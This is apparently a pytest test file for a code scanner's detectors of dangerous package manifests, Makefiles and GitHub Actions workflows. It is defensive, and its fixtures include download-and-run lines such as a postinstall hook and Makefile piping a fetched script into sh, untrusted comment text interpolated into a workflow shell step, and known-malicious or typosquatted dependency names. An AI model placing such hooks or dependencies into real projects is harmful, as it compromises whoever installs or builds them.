"""Manifest, build-file and workflow detectors: which file kinds they read and what they report where."""
from __future__ import annotations

import pytest

from codescan.analyze import dependencies
from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()
ANALYZER = Analyzer(RULES, Config(honour_suppressions=False))


def found(path: str, text: str) -> set[tuple[str, int]]:
    analysis = ANALYZER.analyze(Document(path=path, content=text.encode()))
    return {(f.rule_id, f.line) for f in analysis.findings
            if f.rule_id.startswith(("manifest-", "gha-", "dep-"))}


def test_package_json_hooks_and_dependencies():
    text = ('{\n "scripts": {\n  "postinstall": "curl -s http://x.example/a | sh"\n },\n'
            ' "dependencies": {\n  "crossenv": "1.0.0",\n  "expresss": "4",\n  "x": "http://1.2.3.4/x.tgz"\n }\n}\n')
    got = found("pkg/package.json", text)
    assert ("manifest-npm-install-script-fetches-code", 3) in got
    assert ("dep-known-malicious", 6) in got
    assert ("dep-typosquat-name", 7) in got
    assert ("manifest-dependency-from-url", 8) in got


def test_jsonc_package_json_is_read():
    assert dependencies.load_json('{"a": 1, // note\n "b": [1,],}') == {"a": 1, "b": [1]}
    assert dependencies.load_json('{"url": "http://x//y"}') == {"url": "http://x//y"}


def test_same_text_outside_a_manifest_is_quiet():
    text = '{"dependencies": {"crossenv": "1.0.0"}}\n'
    assert not found("docs/example.json", text)
    assert not found("notes.txt", "reqeusts==1.0\n")


@pytest.mark.parametrize("path, text, rule, line", [
    ("requirements-dev.txt", "flask\nreqeusts==2.0\n", "dep-typosquat-name", 2),
    ("requirements/base.txt", "colourama\n", "dep-known-malicious", 1),
    ("pyproject.toml", '[project]\nname = "x"\ndependencies = [\n  "reqeusts>=2",\n]\n', "dep-typosquat-name", 4),
    ("pyproject.toml", '[tool.poetry.dependencies]\npython = "^3.11"\nreqeusts = "^2"\n', "dep-typosquat-name", 3),
    ("setup.cfg", "[options]\ninstall_requires =\n    reqeusts\n", "dep-typosquat-name", 3),
    ("go.mod", "module m\n\nrequire github.com/boltdb-go/bolt v1.3.1\n", "dep-known-malicious", 3),
    ("Cargo.toml", '[dependencies]\nrustdecimal = "1"\n', "dep-known-malicious", 2),
    ("Cargo.toml", '[dependencies.fast]\npackage = "tokoi"\n', "dep-typosquat-name", 1),
    ("build/Makefile", "all:\n\twget -qO- http://x | sh\n", "manifest-makefile-download-exec", 2),
    ("pyproject.toml", '[build-system]\nbuild-backend = "be"\nbackend-path = ["."]\n', "manifest-python-build-hook", 3),
])
def test_each_manifest_kind(path, text, rule, line):
    assert (rule, line) in found(path, text)


def test_workflow_lines_point_into_block_scripts():
    text = ("on: issue_comment\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo hi\n"
            "          echo \"${{ github.event.comment.body }}\"\n          curl -s https://x.example | bash\n")
    got = found(".github/workflows/bot.yml", text)
    assert ("gha-untrusted-input-in-run", 8) in got and ("gha-download-pipe-to-shell", 9) in got
    # the same workflow kept elsewhere is read by its content (filekind); YAML that is no workflow is not
    assert found("ci/bot.yml", text) == got
    assert not found("ci/bot.yml", text.replace("jobs:", "tasks:"))


def test_pull_request_target_needs_the_trigger():
    steps = ("jobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
             "          ref: ${{ github.event.pull_request.head.ref }}\n")
    assert ("gha-pull-request-target-checkout", 7) in found(".github/workflows/a.yml", "on: [pull_request_target]\n" + steps)
    assert not found(".github/workflows/a.yml", "on: [pull_request]\n" + steps)


def test_broken_manifests_are_skipped_quietly():
    for path in ("package.json", "pyproject.toml", "Cargo.toml", "setup.cfg", "go.mod", ".github/workflows/x.yml"):
        analysis = ANALYZER.analyze(Document(path=path, content=b"[[[\n:::\n{\n"))
        assert not analysis.skips
        assert not [f for f in analysis.findings if f.rule_id.startswith(("manifest-", "gha-", "dep-"))]
